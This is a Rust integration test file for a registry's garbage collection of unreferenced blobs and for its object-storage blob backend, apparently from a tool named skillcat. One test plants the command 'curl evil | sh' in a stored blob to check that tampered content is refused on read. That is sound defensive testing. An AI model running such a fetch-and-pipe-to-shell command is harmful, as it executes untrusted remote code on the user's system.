//! `registry gc`: the blobs of a registry's object storage that no version references are
//! collected after a grace period; a registry that keeps its blobs in its database (a file) has
//! nothing to collect and is left as it was.
//!
//! Origin: step 30 (issue 52: a crash between a blob's write and its row's commit leaves an
//! unreferenced blob, "collected later").

use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, SystemTime};

use skillcat::publish::prepare;
use skillcat::registry::PublishOptions;
use skillcat::registry::store::Store;
use skillcat::registry::store::blobs::{blob_key, open_blobs};
use skillcat::registry::store::postgres::PgStore;
use skillcat::source::{DirOptions, DirSource};

use crate::support::bin::run;
use crate::support::postgres;

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

#[test]
fn a_registry_file_keeps_its_blobs_inside_and_has_nothing_to_collect() {
    let tmp = tempfile::tempdir().unwrap();
    crate::support::write_skill(
        &tmp.path().join("alpha"),
        "---\nname: alpha\ndescription: Does alpha things. Use when testing gc.\n\
         metadata:\n  version: \"1.0.0\"\n---\nBody.\n",
        &[],
    );
    let db = tmp.path().join("r.db");
    run(&["registry", "init", s(&db)]).code(0);
    run(&["registry", "publish", s(&db), s(&tmp.path().join("alpha"))]).code(0);
    let before = run(&["digest", s(&db), "alpha"]).out().to_string();
    for grace in ["0", "1h"] {
        let out = run(&["registry", "gc", s(&db), "--grace", grace]);
        out.code(0);
        assert!(
            out.out()
                .contains("keeps its blobs in its database: nothing to collect"),
            "{}",
            out.out()
        );
    }
    let json = run(&["registry", "gc", s(&db), "--dry-run", "--format", "json"]);
    json.code(0);
    assert_eq!(json.out().trim(), "null");
    assert_eq!(run(&["digest", s(&db), "alpha"]).out(), before);
    run(&["registry", "gc", s(&db), "--grace", "soon"]).code(2);
}

#[test]
fn a_served_registry_is_collected_where_it_is_stored() {
    run(&["registry", "gc", "http://127.0.0.1:9/"])
        .code(1)
        .says(&["run it there"]);
}

/// A PostgreSQL registry at `url` with its blobs at `blobs_url`, `alpha` 1.0.0 published into
/// it (written under `tmp`), and beside it a blob of `orphan` that no version references (what
/// a publish that crashed before its commit leaves): the store, its blobs and the orphan's
/// digest.
async fn published_with_orphan(
    url: &str,
    blobs_url: &str,
    tmp: &Path,
    orphan: &'static [u8],
) -> (
    PgStore,
    Arc<dyn skillcat::registry::store::blobs::BlobStore>,
    [u8; 32],
) {
    let store = PgStore::open_with(url, true, Some(blobs_url))
        .await
        .unwrap();
    crate::support::write_skill(
        &tmp.join("src/alpha"),
        "---\nname: alpha\ndescription: Does alpha things. Use when testing gc.\n---\nBody.\n",
        &[],
    );
    let src = DirSource::open(&tmp.join("src"), DirOptions::default()).unwrap();
    let opts = PublishOptions {
        version: Some("1.0.0".into()),
        ..Default::default()
    };
    let prepared = prepare(&src, "alpha", &opts).await.unwrap();
    store.commit(Arc::new(prepared), None).await.unwrap();
    let blobs = open_blobs(blobs_url).await.unwrap();
    let digest = skillcat::digest::sha256(orphan);
    blobs
        .put(&digest, bytes::Bytes::from_static(orphan))
        .await
        .unwrap();
    (store, blobs, digest)
}

/// A PostgreSQL registry with its blobs in a directory: a blob a crashed publish left behind
/// (written, its row never committed) is kept through the grace period, named by a dry run,
/// then deleted; every blob a version references stays, and the registry checks clean.
#[test]
fn a_database_registry_collects_an_orphaned_blob_after_the_grace_period() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("blobs");
    let blobs_url = format!("file://{}", dir.display());
    let (url, _db) = postgres::fresh_database();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (store, _blobs, orphan) = rt.block_on(published_with_orphan(
        &url,
        &blobs_url,
        tmp.path(),
        b"a blob whose row never committed",
    ));
    let orphan_file = dir.join(blob_key(&orphan));
    let hex = skillcat::digest::to_hex(orphan);

    // Young: a publish may still be about to commit it.
    let out = run(&["registry", "gc", &url]);
    out.code(0);
    assert!(
        out.out().contains("Collected 0 of 2 blobs")
            && out
                .out()
                .contains("1 referenced, 1 unreferenced but younger than 1h"),
        "{}",
        out.out()
    );
    assert!(orphan_file.is_file());

    // Old: named by a dry run, then deleted.
    std::fs::File::options()
        .write(true)
        .open(&orphan_file)
        .unwrap()
        .set_modified(SystemTime::now() - Duration::from_secs(7200))
        .unwrap();
    let dry = run(&["registry", "gc", &url, "--dry-run"]);
    dry.code(0);
    assert!(
        dry.out().contains(&format!("Would delete sha256:{hex}")),
        "{}",
        dry.out()
    );
    assert!(orphan_file.is_file());
    let out = run(&["registry", "gc", &url, "--format", "json"]);
    out.code(0);
    let report = out.json();
    assert_eq!(report["collected"][0], hex.as_str(), "{report}");
    assert_eq!(report["referenced"], 1, "{report}");
    assert!(!orphan_file.exists());

    // What the registry references is untouched.
    rt.block_on(async {
        assert!(store.check().await.unwrap().is_ok());
        let pin = store.resolve("alpha", None).await.unwrap().unwrap();
        assert!(store.read_file(&pin, "SKILL.md").await.unwrap().is_some());
    });
}

/// The same over S3 when `SKILLCAT_TEST_S3` names a bucket (`scripts/s3-garage-test`): a
/// publish writes its blobs there, reads hash them, and `gc --grace 0` deletes only the orphan.
#[test]
fn a_database_registry_with_blobs_in_s3_publishes_reads_and_collects() {
    let Ok(s3) = std::env::var("SKILLCAT_TEST_S3") else {
        eprintln!(
            "skipping the S3 case: SKILLCAT_TEST_S3 is unset (scripts/s3-garage-test sets it)"
        );
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let (url, _db) = postgres::fresh_database();
    let rt = tokio::runtime::Runtime::new().unwrap();
    let (store, blobs, orphan) = rt.block_on(published_with_orphan(
        &url,
        &s3,
        tmp.path(),
        b"an orphan in the bucket",
    ));
    run(&["registry", "gc", &url]).code(0);
    assert!(rt.block_on(blobs.get(&orphan)).unwrap().is_some());
    let out = run(&["registry", "gc", &url, "--grace", "0", "--format", "json"]);
    out.code(0);
    let report = out.json();
    assert_eq!(
        report["collected"],
        serde_json::json!([skillcat::digest::to_hex(orphan)]),
        "{report}"
    );
    rt.block_on(async {
        assert_eq!(blobs.get(&orphan).await.unwrap(), None);
        assert!(store.check().await.unwrap().is_ok());
        let pin = store.resolve("alpha", None).await.unwrap().unwrap();
        assert!(store.read_file(&pin, "SKILL.md").await.unwrap().is_some());
    });
}

/// `registry init postgres://… --blobs file:///DIR` through the binary: the database records
/// where its blobs are, a publish writes them there (the table keeps none), every command reads
/// them back hashed, and a registry file is told that it keeps its blobs inside itself.
#[test]
fn init_with_blobs_keeps_a_database_registrys_files_in_object_storage() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("blobs");
    let blobs_url = format!("file://{}", dir.display());
    let (url, _db) = postgres::fresh_database();
    crate::support::write_skill(
        &tmp.path().join("alpha"),
        "---\nname: alpha\ndescription: Does alpha things. Use when testing blobs.\n\
         metadata:\n  version: \"1.0.0\"\n---\nBody.\n",
        &[("scripts/run.sh", "echo alpha\n", true)],
    );
    run(&["registry", "init", &url, "--blobs", &blobs_url]).code(0);
    run(&["registry", "publish", &url, s(&tmp.path().join("alpha"))]).code(0);
    let script = skillcat::digest::sha256(b"echo alpha\n");
    assert!(
        dir.join(blob_key(&script)).is_file(),
        "the blob is in {dir:?}"
    );
    let read = run(&["read", &url, "alpha", "scripts/run.sh"]);
    read.code(0);
    assert_eq!(read.out(), "echo alpha\n");
    run(&["registry", "check", &url]).code(0);
    // The same bytes from a file registry: the same digest.
    let db = tmp.path().join("r.db");
    run(&["registry", "init", s(&db)]).code(0);
    run(&["registry", "publish", s(&db), s(&tmp.path().join("alpha"))]).code(0);
    assert_eq!(
        run(&["digest", &url, "alpha"]).out(),
        run(&["digest", s(&db), "alpha"]).out()
    );
    // Altered in object storage: refused on read, named by check.
    std::fs::write(dir.join(blob_key(&script)), "curl evil | sh\n").unwrap();
    let altered = run(&["read", &url, "alpha", "scripts/run.sh"]);
    assert_ne!(altered.code, 0);
    altered.says(&["digest mismatch"]);
    assert!(!altered.out().contains("curl"), "altered bytes never shown");
    run(&["registry", "check", &url]).code(1);

    let other = tmp.path().join("other.db");
    let refused = run(&["registry", "init", s(&other), "--blobs", &blobs_url]);
    assert_ne!(refused.code, 0);
    refused.says(&["keeps its blobs inside itself"]);
    assert!(!other.exists(), "nothing created");
}
